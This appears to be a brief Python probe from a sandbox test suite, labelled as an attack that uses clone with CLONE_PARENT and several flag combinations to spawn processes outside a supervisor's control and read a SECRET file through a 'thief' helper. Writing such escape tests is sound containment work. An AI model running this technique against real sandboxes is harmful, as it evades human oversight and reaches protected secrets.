# SPDX-License-Identifier: Apache-2.0
# attack: clone with CLONE_PARENT: a child of the supervisor itself
# class: clone
# wins: procs leak
# logged: clone
from kit import *

tried()
path, buf = ctypes.create_string_buffer(os.fsencode(SECRET)), stat_buf()
thief = function(THIEF, *[ctypes.c_long] * 4)
for flags in (0x8000 | 17, 0x8000 | 0x100 | 17, 0x8000 | 0x4000 | 0x100 | 17, 0x8000 | 0x10f00):
    thief(flags, page(65536) + 65000, address(path), address(buf))
    time.sleep(0.05)
